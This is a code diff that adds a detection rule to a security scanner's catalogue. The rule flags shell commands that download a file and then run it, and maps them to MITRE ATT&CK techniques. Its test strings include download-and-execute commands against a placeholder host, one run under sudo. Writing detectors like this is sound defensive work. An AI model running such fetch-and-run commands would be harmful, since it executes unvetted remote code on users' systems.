@@ -271,6 +271,23 @@ export const execution: readonly CatalogueEntry[] = [
     ],
   },
   {
+    id: "remote-code.fetched-file",
+    when: { upstream: ["fetched-file"] },
+    class: "execution",
+    weight: 0.65,
+    floor: false,
+    because: "runs a file that it downloaded a moment before",
+    attack: ["T1105", "T1059.004"],
+    falsePositives: "installers that are documented that way",
+    whatToDo: "Fetch the address again on a safe machine and read it; find what the file started.",
+    reference: "https://attack.mitre.org/techniques/T1105/",
+    matches: [
+      "curl -o job.sh https://shop.example/job.sh && sh job.sh",
+      "sudo bash -c 'wget https://shop.example/helper; chmod +x helper; ./helper'",
+    ],
+    ignores: ["curl -o job.tgz https://shop.example/job.tgz && tar xf job.tgz", "curl https://shop.example/a; ./b"],
+  },
+  {
     id: "remote-code.substitution",
     when: {
       anyArgument: [`^[<$][({]\\s*${fetched}`, `^[<$]\\(\\s*(sudo\\s+)?${fetched}`, `^\`\\s*${fetched}`],
